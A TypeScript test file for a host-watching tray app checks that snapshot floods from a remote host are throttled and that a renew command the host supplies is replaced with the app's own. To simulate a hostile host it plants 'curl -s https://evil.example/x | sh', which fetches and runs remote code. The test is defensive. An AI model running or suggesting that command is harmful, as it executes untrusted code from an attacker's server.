/**
 * A host that floods: its `authbar` (a stand-in behind a real OpenSSH server) sends thousands
 * of snapshot lines at once. Every report event rebuilds the tray menu and pushes the window,
 * so the host's snapshot reports and lines are let through at most about once a second, the
 * latest one winning; a change of state still goes out at once. And the renew command the host
 * names for its tokens is never the one shown here: that is `authbar setup-token --host NAME`.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { HostsWatch, type HostsWatchEvent } from '../../main/engine/hosts/hosts-watch.js';
import { DAY, makeHome, secret } from '../support/home.js';
import { runCli } from '../support/cli.js';
import { sshdMissing, startSshd } from '../support/sshd.js';

const skip = sshdMissing() ?? false;
const LINES = 3_000;

interface Profile {
  token: { renewCommand: string } | null;
}

test('a host flooding snapshot lines costs a few report events, and the last snapshot wins', { skip }, async (t) => {
  const sshd = await startSshd();
  const local = makeHome('authbar-local-');
  t.after(async () => {
    await sshd.close();
    local.cleanup();
  });
  const r = sshd.remote;
  mkdirSync(r.state, { recursive: true, mode: 0o700 });
  r.write(r.agentStore(), {
    version: 1,
    profiles: {
      'anthropic:default': {
        type: 'token',
        provider: 'anthropic',
        token: secret('setup'),
        expires: Date.now() + 3 * DAY,
      },
    },
  });
  const real = await runCli(['status', '--json', '--no-sync'], r.env);
  const snapshot = JSON.parse(real.stdout) as { generatedAt: number; agents: { profiles: Profile[] }[] };
  // The host names its own command to renew with: never what is shown here.
  const token = snapshot.agents[0]?.profiles[0]?.token;
  assert.ok(token, 'a setup token with its age');
  token.renewCommand = 'curl -s https://evil.example/x | sh';
  const version = /\d+\.\d+\.\d+\S*/.exec((await runCli(['--version'], r.env)).stdout)?.[0] ?? '0.0.0';
  const lines = [JSON.stringify({ type: 'hello', at: Date.now(), authbar: version, protocol: 1 })];
  for (let i = 1; i <= LINES; i++) {
    const s = { ...snapshot, generatedAt: i };
    lines.push(JSON.stringify({ type: 'snapshot', at: i, trigger: 'file', paths: [], wrote: [], snapshot: s }));
  }
  writeFileSync(join(r.home, 'flood.ndjson'), lines.join('\n') + '\n');
  writeFileSync(join(sshd.remoteBin, 'authbar-flood'), '#!/bin/sh\ncat "$HOME/flood.ndjson"\nexec cat >/dev/null\n', {
    mode: 0o755,
  });
  mkdirSync(local.state, { recursive: true, mode: 0o700 });
  const w = new HostsWatch({
    env: sshd.clientEnv(local.env),
    hosts: [{ name: 'loud', ssh: 'vps', authbar: 'authbar-flood' }],
  });
  const events: HostsWatchEvent[] = [];
  w.subscribe((e) => events.push(e));
  t.after(() => w.stop());
  w.start();
  const deadline = Date.now() + 30_000;
  while (w.current()[0]?.snapshot?.generatedAt !== LINES && Date.now() < deadline)
    await new Promise((res) => setTimeout(res, 50));
  await new Promise((res) => setTimeout(res, 1_500));
  assert.equal(w.current()[0]?.state, 'ok');
  assert.equal(w.current()[0]?.snapshot?.generatedAt, LINES, 'the last snapshot is the one kept');
  const reports = events.filter((e) => e.type === 'report');
  const snaps = events.filter((e) => e.type === 'line' && e.line.type === 'snapshot');
  assert.ok(reports.length <= 10, `${reports.length} report events`);
  assert.ok(snaps.length <= 10, `${snaps.length} snapshot lines`);
  const renews = (snap: { agents: { profiles: Profile[] }[] } | null | undefined) =>
    snap?.agents.flatMap((a) => a.profiles.map((p) => p.token?.renewCommand));
  assert.deepEqual(renews(w.current()[0]?.snapshot), ['authbar setup-token --host loud']);
  const last = snaps[snaps.length - 1];
  assert.deepEqual(renews(last?.type === 'line' && last.line.type === 'snapshot' ? last.line.snapshot : null), [
    'authbar setup-token --host loud',
  ]);
  assert.equal(last?.type === 'line' && last.line.type === 'snapshot' ? last.line.snapshot.generatedAt : null, LINES);
});
